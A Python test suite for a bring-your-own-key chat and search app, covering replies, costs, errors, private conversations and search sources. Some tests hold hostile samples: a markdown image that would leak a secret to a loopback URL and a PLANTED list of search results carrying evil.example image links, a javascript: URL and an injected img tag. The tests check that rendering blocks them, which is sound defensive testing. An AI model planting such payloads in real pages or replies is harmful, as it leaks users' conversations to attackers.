"""AppTest: the Chat and Search pages against loopback fake providers."""

from __future__ import annotations

import json
import re
from datetime import timedelta

import sqlalchemy as sa
from apptest import act, app_test, make_user, open_page, page_as, send_message, sign_in, text_of, use_environment
from callhelpers import runtime_with
from fakeproviders import FakeProvider
from markdown_it import MarkdownIt
from replay import ReplayServer, base_env, recording

from byok_core import connections, keys
from byok_core import conversations as convs
from byok_core.adapters.base import SearchResult
from byok_core.clock import utcnow
from byok_core.errors import CallStatus
from byok_core.identity import Actor, KeySource, Owner
from byok_core.md import cite, no_images
from byok_core.models import Message, ReplyStatus, table
from byok_core.providers import Provider
from byok_core.record import CallRecord
from byok_ui import chat_view


def ask(at, rt, text: str):
    send_message(at, rt, text)
    assert not at.exception
    return at


def chat_env(environ, monkeypatch, *fakes):
    env = dict(environ)
    for fake in fakes:
        env.update(fake.env())
    use_environment(monkeypatch, env)


def test_reply_is_streamed_stored_and_says_who_paid(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    with FakeProvider(Provider.OPENAI, reply="Hello from the fake model") as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        assert at.selectbox(key="chat_pick").value == "openai"  # default: first usable key
        assert at.selectbox(key="chat_model_openai").value == "gpt-4o-mini"
        at.selectbox(key="chat_pick").set_value("anthropic").run()
        anthropic_model = at.selectbox(key="chat_model_anthropic").value
        assert anthropic_model and anthropic_model.startswith("claude")  # not OpenAI's model carried over
        at.selectbox(key="chat_pick").set_value("openai").run()
        assert at.selectbox(key="chat_model_openai").value == "gpt-4o-mini"
        ask(at, rt, "Say hello")
    assert at.title[0].value == "Say hello"  # the new conversation is titled from the first prompt
    replies = [m for m in at.chat_message if m.name == "assistant"]
    assert replies and replies[-1].markdown[0].value == "Hello from the fake model"
    caption = replies[-1].caption[-1].value
    assert "Paid by your key" in caption and "gpt-4o-mini" in caption and "tokens" in caption
    assert "$0.00 " not in caption + " "
    [conv] = convs.list_conversations(rt, ann.id)
    stored = convs.messages(rt, ann.id, conv.id)
    assert [m.role for m in stored] == ["user", "assistant"]
    assert stored[1].record.key_source == "user" and stored[1].record.status == "ok"
    assert any(b.label.startswith("Say hello · ") for b in at.button)  # listed in the sidebar, with its time


def test_unknown_price_is_shown_as_unknown_and_team_key_named(app, rt, environ, monkeypatch):
    boss, mem = make_user(rt, "boss", admin=True), make_user(rt, "mem")
    keys.store(rt, Actor.of(boss), Owner.team(), Provider.OPENAI, "sk-team-key-1234")
    with FakeProvider(Provider.OPENAI, reply="ok", models=["house-model-x"]) as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, mem)
        ask(at, rt, "hi")
    caption = [m for m in at.chat_message if m.name == "assistant"][-1].caption[-1].value
    assert "Paid by the team's key" in caption and "cost unknown" in caption


def test_no_key_links_to_the_keys_page_and_makes_no_conversation(app, rt):
    ann = make_user(rt, "ann")
    make_user(rt, "boss", admin=True)
    at = page_as(rt, ann)
    assert any(c.value.endswith("or ask your admin \\(boss\\) to add a team key.") for c in at.caption)  # by name
    at.selectbox(key="chat_model_openai").set_value("gpt-4o-mini")
    ask(at, rt, "hello?")
    assert at.error and "No API key for OpenAI" in at.error[0].value
    assert any("Keys page" in link.value for link in at.page_link)
    assert at.chat_input(key="chat_prompt").value == "hello?"  # kept, to send once there is a key
    assert convs.list_conversations(rt, ann.id) == []


def test_rejected_key_and_rate_limit_and_cut_off_in_plain_words(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-wrong-key-0000")
    with FakeProvider(Provider.OPENAI, expect_key="sk-right-key") as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, "one")
        assert at.error and "sk-wrong-key-0000" not in at.error[-1].value
        assert any("Keys page" in link.value for link in at.page_link)
        footer = [m for m in at.chat_message if m.name == "assistant"][-1].caption[-1].value
        assert footer.startswith("Tried with your key")  # not "Paid by": the call failed
    with FakeProvider(Provider.OPENAI, status=429, error_headers={"retry-after": "17"}) as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, "two")
        assert at.warning and at.warning[-1].value.count("17 seconds") == 1  # said once, not twice
        assert at.button(key="chat_again_wait").disabled and "chat_again" not in [b.key for b in at.button]
        assert at.button(key="chat_again_wait").label in ("Retry in 17 s", "Retry in 16 s")  # counted down
        [conv] = [c for c in convs.list_conversations(rt, ann.id) if c.title == "two"]
        with rt.engine.begin() as conn:  # 17 seconds later
            row = table(Message)
            meta = json.loads(conn.execute(sa.select(row.c.meta).where(row.c.role == "assistant").order_by(
                row.c.id.desc())).scalar())
            meta["retry_at"] = (utcnow() - timedelta(seconds=1)).isoformat()
            conn.execute(sa.update(row).where(row.c.conversation_id == conv.id, row.c.role == "assistant").values(
                meta=json.dumps(meta)))
        at.run()
        assert not at.button(key="chat_again").disabled and at.button(key="chat_again").label == "Retry"
    with FakeProvider(Provider.OPENAI, reply="partial text that goes on", cut_after=2) as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, "three")
        assert at.warning and at.warning[-1].value.count("the text so far is kept") == 1
    [conv] = [c for c in convs.list_conversations(rt, ann.id) if c.title == "three"]
    reply = convs.messages(rt, ann.id, conv.id)[-1]
    assert reply.record.status == "cut_off" and reply.content  # the partial text is kept


def test_conversations_are_private_and_can_be_renamed_and_deleted(app, rt):
    ann, bob = make_user(rt, "ann"), make_user(rt, "bob")
    mine = convs.create(rt, ann.id, "ann's secret plans")
    convs.add_message(rt, ann.id, mine.id, "user", "the secret content")
    at = page_as(rt, bob)
    assert all("secret" not in b.label for b in at.button)
    at.query_params["c"] = str(mine.id)  # ann's conversation's URL shows nothing of ann's
    at.run()
    assert not at.exception
    assert "secret" not in repr(at._tree) and "does not exist" in at.error[0].value
    assert "c" not in at.query_params

    at = page_as(rt, ann)
    at.button(key=f"chat_conv_{mine.id}").click().run()
    assert at.title[0].value == "ann's secret plans" and at.query_params["c"] == str(mine.id)
    assert at.chat_message[0].markdown[0].value == "the secret content"
    at.text_input(key=f"chat_rename_{mine.id}").set_value("renamed")
    at.button(key="FormSubmitter:chat_rename_form-Rename").click().run()  # as Enter in the field does
    assert convs.get(rt, ann.id, mine.id).title == "renamed"
    at.text_input(key=f"chat_rename_{mine.id}").set_value("long " * 60)
    at.button(key="FormSubmitter:chat_rename_form-Rename").click().run()
    title = convs.get(rt, ann.id, mine.id).title
    assert len(title) == convs.MAX_TITLE and title.endswith("…")
    assert "shortened" in at.success[0].value  # said, not cut silently
    at.button(key="chat_delete").click().run()
    assert convs.list_conversations(rt, ann.id)  # asks first
    at.button(key="chat_delete_yes").click().run()
    assert not at.exception
    assert convs.list_conversations(rt, ann.id) == []
    assert at.title[0].value == "Chat"


def test_web_search_sources_are_listed_under_the_reply(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.TAVILY, "tvly-ann-key-1234")
    with FakeProvider(Provider.OPENAI, reply="See [1].") as chat_fake, FakeProvider(Provider.TAVILY) as search_fake:
        chat_env(environ, monkeypatch, chat_fake, search_fake)
        at = page_as(rt, ann)
        at.toggle(key="chat_search").set_value(True).run()
        at.selectbox(key="chat_search_provider").set_value(Provider.TAVILY).run()
        ask(at, rt, "what is an example?")
    reply = [m for m in at.chat_message if m.name == "assistant"][-1]
    sources = reply.expander[0].markdown[0].value
    assert "[Example One](https://example.com/one)" in sources


def test_search_page_side_by_side(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.TAVILY, "tvly-ann-key-1234")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.BRAVE, "brave-ann-key-1234")
    with FakeProvider(Provider.TAVILY) as tavily, FakeProvider(Provider.BRAVE) as brave:
        chat_env(environ, monkeypatch, tavily, brave)
        at = page_as(rt, ann, "search")
        at.text_input(key="search_query").set_value("example")
        at.session_state["search_providers"] = [Provider.BRAVE, Provider.TAVILY]
        at.button(key="FormSubmitter:search_form-Search").click().run()
        assert not at.exception
    assert [t.label for t in at.tabs] == ["Brave Search", "Tavily"]  # full width, one tab each
    assert len(at.dataframe) == 2
    assert [c.value for c in at.caption if "paid by" in c.value] == [
        "3 results · paid by your key · $0.005", "3 results · paid by your key · $0.008"]
    frame = at.dataframe[0].value
    assert list(frame["URL"])[:1] == ["https://example.com/one"]
    assert set(frame.columns) >= {"Title", "URL", "Snippet", "Provider"}


def test_images_in_replies_prompts_and_titles_are_not_loaded(app, rt, environ, monkeypatch):
    """A markdown image makes the browser fetch its URL with no click: a planted page could leak
    the conversation through it. Replies, prompts and titles show images as plain text."""
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    leak = "![x](http://127.0.0.1:9/leak?q=secret)"
    with FakeProvider(Provider.OPENAI, reply=f"Here you go {leak}") as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, f"show {leak}")
    shown = [md.value for m in at.chat_message for md in m.markdown]
    assert any("Here you go" in text for text in shown)
    assert not any(re.search(r"(?<!\\)!\[", text) for text in [*shown, at.title[0].value]), shown
    assert not any(re.search(r"(?<!\\)!\[", b.label) for b in at.button)


PLANTED = [  # search results a hostile page could plant: each tries to make the browser load an image
    SearchResult("t", "https://ok.example/a\n\n[x]: http://evil.example/i.png\n\n![a][x]", "", Provider.BRAVE, 1),
    SearchResult("![img](http://evil.example/i.png)", "https://ok.example/b", "", Provider.BRAVE, 2),
    SearchResult("t", "https://ok.example/c)![a](http://evil.example/i.png", "", Provider.BRAVE, 3),
    SearchResult("t", "https://ok.example/<img src=http://evil.example/i.png>", "", Provider.BRAVE, 4),
    SearchResult("t\n\n[x]: http://evil.example/i.png\n![a][x]", "javascript:alert(1)", "", Provider.BRAVE, 5),
    SearchResult("t", "data:image/png;base64,AAAA", "", Provider.BRAVE, 6),
]


def test_planted_sources_render_no_image_and_link_only_http():
    """Rendered by a CommonMark parser (the browser's react-markdown is one), as chat_view lays it out."""
    html = MarkdownIt("commonmark").render("\n".join(f"{n}. {chat_view.source_line(s)}"
                                                     for n, s in enumerate(PLANTED, 1)))
    assert "<img" not in html
    assert re.findall(r'href="([^"]*)"', html) == [  # only http(s) links, each to the host the URL names
        "https://ok.example/b", "https://ok.example/c%29!%5Ba%5D%28http://evil.example/i.png"]
    assert html.count("<li>") == len(PLANTED)  # one line each: nothing broke out of its list item


def test_citations_link_to_their_source_and_nothing_else():
    """``[n]`` in a reply links to source n, only where that source has an http(s) URL, never in code."""
    reply = "Fact [2] and [3] and [5]; `[2]` and ![2] stay; so does [9].\n\n```\n[2]\n```\nAgain [2]."
    html = MarkdownIt("commonmark").render(no_images(cite(reply, PLANTED)))
    assert "<img" not in html
    assert re.findall(r'<a href="([^"]*)">\[(\d)\]</a>', html) == [
        ("https://ok.example/b", "2"), ("https://ok.example/c%29!%5Ba%5D%28http://evil.example/i.png", "3"),
        ("https://ok.example/b", "2")]
    assert "<code>[2]</code>" in html and "[5]" in html and "[9]" in html and "<code>[2]\n</code>" in html
    assert "· ok.example" in chat_view.source_line(PLANTED[1])  # each source shows its site


def test_a_failed_turn_stays_with_retry_and_is_never_sent_again(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    with FakeProvider(Provider.OPENAI, reply="Fine") as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, "one")
        fake.status = 429
        ask(at, rt, "two")
        assert at.warning and at.button(key="chat_again").label == "Retry"
        fake.status = None
        ask(at, rt, "three")
        assert [(m["role"], m["content"]) for m in fake.requests[-1].body["messages"]] == [
            ("user", "one"), ("assistant", "Fine"), ("user", "three")]
        shown = [m.markdown[0].value for m in at.chat_message if m.markdown]
        assert shown == ["one", "Fine", "two", "three", "Fine"]  # the failed turn stays on screen
        assert at.button(key="chat_again").label == "Regenerate"
        fake.status = 500
        act(at, rt, at.button(key="chat_again").click().run)
        assert at.button(key="chat_again").label == "Retry"
        fake.status = None
        act(at, rt, at.button(key="chat_again").click().run)
        assert at.chat_message[-1].markdown[0].value == "Fine"
        assert [(m["role"], m["content"]) for m in fake.requests[-1].body["messages"]][-1] == ("user", "three")
        assert len(convs.messages(rt, ann.id, convs.list_conversations(rt, ann.id)[0].id)) == 6


def test_a_reply_written_by_another_process_is_followed_and_a_message_sent_meanwhile_waits_for_it(app, rt):
    ann = make_user(rt, "ann")
    conv = convs.create(rt, ann.id, "Elsewhere", provider=Provider.ANTHROPIC, model="claude-haiku-4-5")
    hi = convs.add_message(rt, ann.id, conv.id, "user", "Hi")
    with rt.engine.begin() as conn:  # a reply another replica is writing, its heart beating
        conn.execute(sa.insert(table(Message)).values(
            conversation_id=conv.id, parent_id=hi.id, role="assistant", content="", created_at=utcnow(),
            status=ReplyStatus.STREAMING,
            meta='{"provider": "anthropic", "model": "claude-haiku-4-5"}', heartbeat_at=utcnow(),
            stop_requested=False))
    at = app_test()
    sign_in(at, rt, ann)
    at.query_params["c"] = str(conv.id)
    at.run()
    open_page(at, "chat").run()
    assert at.chat_input(key="chat_prompt").placeholder == "Your message (sent when the reply ends)"
    assert any(c.value.startswith("Waiting for Anthropic… ") for c in at.caption)
    at.chat_input(key="chat_prompt").set_value("And then?").run()
    assert any(c.value == "Sent when the reply above ends." for c in at.caption)
    assert len(convs.messages(rt, ann.id, conv.id)) == 2  # not sent yet
    at.button(key="chat_stop").click().run()
    assert convs.messages(rt, ann.id, conv.id)[-1].stop_requested  # the other process sees it
    with rt.engine.begin() as conn:
        conn.execute(sa.update(table(Message)).where(table(Message).c.role == "assistant").values(
            content="Written elsewhere", status=ReplyStatus.STOPPED))
    at.run()  # the reply is over: the message that waited for it is sent, but Ann has no Anthropic key
    assert [m.markdown[0].value for m in at.chat_message] == ["Hi", "Written elsewhere"]
    assert at.chat_input(key="chat_prompt").placeholder == "Your message"
    assert not any(c.value == "Sent when the reply above ends." for c in at.caption)
    assert at.chat_input(key="chat_prompt").value == "And then?"  # back in the box, with the reason
    assert at.error[0].value.startswith("No API key for Anthropic")
    assert len(convs.messages(rt, ann.id, conv.id)) == 2


def test_web_search_defaults_to_a_provider_with_a_key_and_its_cost_is_shown(app, rt, environ, monkeypatch):
    boss, ann = make_user(rt, "boss", admin=True), make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    keys.store(rt, Actor.of(boss), Owner.team(), Provider.BRAVE, "brave-team-key-1234")
    with FakeProvider(Provider.OPENAI, reply="See [1].") as chat_fake, FakeProvider(Provider.BRAVE) as search_fake:
        chat_env(environ, monkeypatch, chat_fake, search_fake)
        at = page_as(rt, ann)
        at.toggle(key="chat_search").set_value(True).run()
        assert at.selectbox(key="chat_search_provider").value is Provider.BRAVE  # not Firecrawl: no key
        ask(at, rt, "what is an example?")
    captions = [c.value for c in [m for m in at.chat_message if m.name == "assistant"][-1].caption]
    assert captions[0] == "Web search: Brave Search, paid by the team's key · $0.005"
    assert captions[1].startswith("Paid by your key · OpenAI gpt-4o-mini")
    assert captions[2].startswith("Total $0.0")


def test_conversations_newest_first_found_by_title_and_exported(app, rt):
    ann = make_user(rt, "ann")
    older = convs.create(rt, ann.id, "Holiday plans")
    newer = convs.create(rt, ann.id, "Tax questions")
    convs.add_message(rt, ann.id, older.id, "user", "Where to go?")
    convs.add_message(rt, ann.id, newer.id, "user", "What is VAT?")
    at = page_as(rt, ann)
    listed = [b.label for b in at.button if b.key and b.key.startswith("chat_conv_")]
    assert [label.split(" · ")[0] for label in listed] == ["Tax questions", "Holiday plans"]
    at.text_input(key="chat_find").set_value("HOLIDAY").run()
    assert [b.key for b in at.button if b.key and b.key.startswith("chat_conv_")] == [f"chat_conv_{older.id}"]
    exported = convs.to_markdown(rt, ann.id, older.id)
    assert exported.startswith("# Holiday plans") and "## You · " in exported and "Where to go?" in exported


def test_opening_a_conversation_picks_its_model_without_a_streamlit_warning(app, rt):
    """The conversation's model is put in the picker's state; giving the picker an index as well
    made Streamlit log a warning with a stack trace on every such run."""
    import logging

    warnings: list[str] = []

    class Collect(logging.Handler):
        def emit(self, record: logging.LogRecord) -> None:
            warnings.append(record.getMessage())

    ann = make_user(rt, "ann")
    conv = convs.create(rt, ann.id, "Model talk", provider=Provider.ANTHROPIC, model="claude-sonnet-4-5")
    policies = logging.getLogger("streamlit.elements.lib.policies")
    policies.addHandler(handler := Collect())
    try:
        at = page_as(rt, ann)
        at.query_params["c"] = str(conv.id)
        at.run()
    finally:
        policies.removeHandler(handler)
    assert at.session_state["chat_model_anthropic"] == "claude-sonnet-4-5"
    assert not [w for w in warnings if "default value" in w], warnings


def test_a_message_that_cannot_be_sent_stays_in_the_box_with_the_reason(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    with FakeProvider(Provider.OPENAI) as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        ask(at, rt, "bell \x07 rings")  # refused before anything is stored or sent
        assert "The message contains a control character" in at.error[0].value
        assert at.chat_input(key="chat_prompt").value == "bell \x07 rings"
        assert not any("chat" in r.path for r in fake.requests) and convs.list_conversations(rt, ann.id) == []


def test_a_database_that_cannot_be_written_says_so_and_keeps_the_message(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    with FakeProvider(Provider.OPENAI) as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)

        def full(*_args, **_kwargs):  # what SQLite says when the disk is full
            raise sa.exc.OperationalError("INSERT", {}, Exception("database or disk is full"))

        monkeypatch.setattr(convs, "create", full)
        ask(at, rt, "Hello there")
        assert "disk is full" in at.error[0].value and not at.exception
        assert at.chat_input(key="chat_prompt").value == "Hello there"


def test_a_refusal_is_shown_as_the_reply_and_says_so(app, rt, environ, monkeypatch):
    """A real recorded OpenAI refusal (tests/recordings/openai/stream-refusal-gpt-4o.sse)."""
    rec = recording("openai/stream-refusal-gpt-4o.sse")
    ann = make_user(rt, "ann")
    with ReplayServer(rec) as server:
        use_environment(monkeypatch, base_env(rec, server, environ))
        at = page_as(rt, ann)
        at.selectbox(key="chat_model_openai").set_value("gpt-4o").run()
        ask(at, rt, "Something the model will not do")
    reply = [m for m in at.chat_message if m.name == "assistant"][-1]
    assert reply.markdown[0].value == "I'm sorry, I can't assist with that request."
    [warning] = reply.warning
    assert warning.value == "The model refused this request; the reply above is its refusal."
    assert "The model refused" in str(warning.proto)  # the title


def test_a_failed_web_search_is_answered_without_sources_and_says_so(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.BRAVE, "brave-ann-key-1234")
    with FakeProvider(Provider.OPENAI, reply="An answer from memory") as chat_fake, \
            FakeProvider(Provider.BRAVE, status=503) as search_fake:
        chat_env(environ, monkeypatch, chat_fake, search_fake)
        at = page_as(rt, ann)
        at.toggle(key="chat_search").set_value(True).run()
        ask(at, rt, "what is new?")
    reply = [m for m in at.chat_message if m.name == "assistant"][-1]
    assert reply.markdown[0].value == "An answer from memory"
    assert reply.warning[0].value.startswith("The web search failed, so this answer has no sources: Brave")
    assert reply.caption[0].value.startswith("Web search: Brave Search, tried with your key")
    assert "Retry" not in [b.label for b in at.button] and "Regenerate" in [b.label for b in at.button]


def test_a_reply_stopped_before_its_first_word_says_what_was_counted(app, rt):
    ann = make_user(rt, "ann")
    conv = convs.create(rt, ann.id, "Stopped", provider=Provider.OPENAI, model="gpt-4o-mini")
    hi = convs.add_message(rt, ann.id, conv.id, "user", "Hi")
    stopped = CallRecord(Provider.OPENAI, KeySource.USER, "gpt-4o-mini", ann.id, status=CallStatus.CUT_OFF)
    with rt.engine.begin() as conn:
        conn.execute(sa.insert(table(Message)).values(
            conversation_id=conv.id, parent_id=hi.id, role="assistant", content="", created_at=utcnow(),
            status=ReplyStatus.STOPPED,
            meta=json.dumps(convs.reply_meta(stopped)), stop_requested=True))
    at = page_as(rt, ann)
    at.query_params["c"] = str(conv.id)
    at.run()
    reply = [m for m in at.chat_message if m.name == "assistant"][-1]
    captions = [c.value for c in reply.caption]
    assert "Stopped before the model answered; not charged." in captions
    assert not any("text so far is kept" in c for c in captions)


def test_each_connection_is_a_provider_choice_with_its_own_models(app, rt, environ, monkeypatch):
    """The Provider picker lists each connection by its name; each lists its own endpoint's models,
    cached per key: a new key lists afresh (a typed model name: tests/e2e/test_e2e_connections.py)."""
    ann, boss = make_user(rt, "ann"), make_user(rt, "boss", admin=True)
    use_environment(monkeypatch, {**environ, "BYOK_ALLOW_PRIVATE_ENDPOINTS": "1"})
    with FakeProvider(Provider.OPENAI_COMPATIBLE, models=["first-model"]) as first, \
            FakeProvider(Provider.OPENAI_COMPATIBLE, models=["second-model"]) as second, \
            runtime_with({**environ, "BYOK_ALLOW_PRIVATE_ENDPOINTS": "1"}) as own:
        mine = connections.create(own, Actor.of(ann), Owner.user(ann.id), "First", first.base_url)
        team = connections.create(own, Actor.of(boss), Owner.team(), "Second", second.base_url, "groq")
        keys.store(own, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI_COMPATIBLE, "sk-first-0123456789",
                   connection=mine.id)
        keys.store(own, Actor.of(boss), Owner.team(), Provider.OPENAI_COMPATIBLE, "sk-second-0123456789",
                   connection=team.id)
        at = page_as(rt, ann)
        picker = at.selectbox(key="chat_pick")
        assert picker.options == ["OpenAI", "Anthropic", "Google Gemini", "First", "Second (team)"]
        picker.set_value(f"openai-compatible@{mine.id}").run()
        assert at.selectbox(key=f"chat_model_openai-compatible@{mine.id}").options == ["first-model"]
        at.selectbox(key="chat_pick").set_value(f"openai-compatible@{team.id}").run()
        assert at.selectbox(key=f"chat_model_openai-compatible@{team.id}").options == ["second-model"]
        assert "Second (team): paid by the team's key" in [text_of(c.value) for c in at.caption]
        second.models = ["second-model", "newer-model"]
        keys.store(own, Actor.of(boss), Owner.team(), Provider.OPENAI_COMPATIBLE, "sk-second-9876543210",
                   connection=team.id)
        at.run()
        assert "newer-model" in at.selectbox(key=f"chat_model_openai-compatible@{team.id}").options


def test_finding_a_conversation_reads_titles_and_messages_of_ones_own_only(rt):
    ann, bob = make_user(rt, "ann"), make_user(rt, "bob")
    titled = convs.create(rt, ann.id, "100% Pelican_facts")
    said = convs.create(rt, ann.id, "Birds")
    convs.add_message(rt, ann.id, said.id, "user", "Tell me about PELICANS, please")
    convs.add_message(rt, bob.id, convs.create(rt, bob.id, "Bob's").id, "user", "pelicans too")
    assert {c.id for c in convs.list_conversations(rt, ann.id, title="pelican")} == {titled.id, said.id}
    assert [c.id for c in convs.list_conversations(rt, ann.id, title="100%")] == [titled.id]  # % is a character
    assert [c.id for c in convs.list_conversations(rt, ann.id, title="n_f")] == [titled.id]  # so is _
    assert convs.list_conversations(rt, ann.id, title="nothing like it") == []


def test_editing_an_earlier_prompt_branches_and_the_versions_switch(app, rt, environ, monkeypatch):
    ann = make_user(rt, "ann")
    keys.store(rt, Actor.of(ann), Owner.user(ann.id), Provider.OPENAI, "sk-ann-key-1234")
    with FakeProvider(Provider.OPENAI, reply="Fine") as fake:
        chat_env(environ, monkeypatch, fake)
        at = page_as(rt, ann)
        for prompt in ("one", "two", "three"):
            ask(at, rt, prompt)
        conv = convs.list_conversations(rt, ann.id)[0]
        first = convs.messages(rt, ann.id, conv.id)[0]
        at.button(key=f"chat_edit_{first.id}").click().run()
        at.text_area(key=f"chat_edit_text_{first.id}").set_value("one, edited")
        act(at, rt, lambda: at.button(key="chat_edit_send").click().run())
        assert [(m["role"], m["content"]) for m in fake.requests[-1].body["messages"]] == [("user", "one, edited")]
        assert [m.markdown[0].value for m in at.chat_message if m.markdown] == ["one, edited", "Fine"]
        edited = convs.messages(rt, ann.id, conv.id)[0]
        assert "2/2" in [c.value for c in at.chat_message[0].caption]
        assert at.button(key=f"chat_next_{edited.id}").disabled
        at.button(key=f"chat_prev_{edited.id}").click().run()  # the conversation as it was
        assert [m.markdown[0].value for m in at.chat_message if m.markdown] == ["one", "Fine", "two", "Fine",
                                                                                "three", "Fine"]
        assert "1/2" in [c.value for c in at.chat_message[0].caption]
        assert not at.exception


def test_the_chat_popovers_are_drawn_only_while_open(app, rt):
    """Closed (as a page opens), the pickers', Presets, Conversation and "New chat from preset"
    popovers and the pickers' "Settings of this chat" send no content and the presets are not read;
    opened, their widgets are there and work."""
    from callhelpers import counted

    from byok_core.models import Preset

    def reads_presets(statements: list[str]) -> bool:
        return any(f"FROM {table(Preset).name}" in s for s in statements)

    ann = make_user(rt, "ann")
    conv = convs.create(rt, ann.id, "Old title", provider=Provider.OPENAI, model="gpt-4o-mini")
    at = page_as(rt, ann, menus=False)
    at.query_params["c"] = str(conv.id)
    with counted(sa.engine.Engine) as statements:  # the app's own engine too
        at.run()
    assert not at.exception, at.exception
    inside = {"presets_new_name", f"chat_rename_{conv.id}", "chat_export", "chat_delete"}
    assert not inside & ({w.key for w in at.text_input} | {b.key for b in at.button})
    assert statements and not reads_presets(statements)
    assert not at.selectbox and not at.toggle and not at.text_area  # the pickers and the chat's settings
    at.session_state["chat_pickers_open"] = True  # a click on the pickers' button
    at.run()
    assert at.selectbox(key="chat_model_openai").value == "gpt-4o-mini" and not at.text_area
    at.session_state["chat_settings_open"] = True  # then on "Settings of this chat"
    at.run()
    at.text_area[0].set_value("Be brief.")
    at.button(key=f"FormSubmitter:chat_settings_form_{conv.id}_openai-Save settings").click().run()
    assert not at.exception and convs.get(rt, ann.id, conv.id).settings.system_prompt == "Be brief."
    at.session_state["chat_conversation_open"] = True  # a click on "Conversation"
    at.run()
    at.text_input(key=f"chat_rename_{conv.id}").set_value("New title")
    at.button(key="FormSubmitter:chat_rename_form-Rename").click().run()
    assert not at.exception and convs.get(rt, ann.id, conv.id).title == "New title"
    at.session_state["chat_presets_open"] = True
    with counted(sa.engine.Engine) as statements:
        at.run()
    assert at.text_input(key="presets_new_name") and reads_presets(statements)
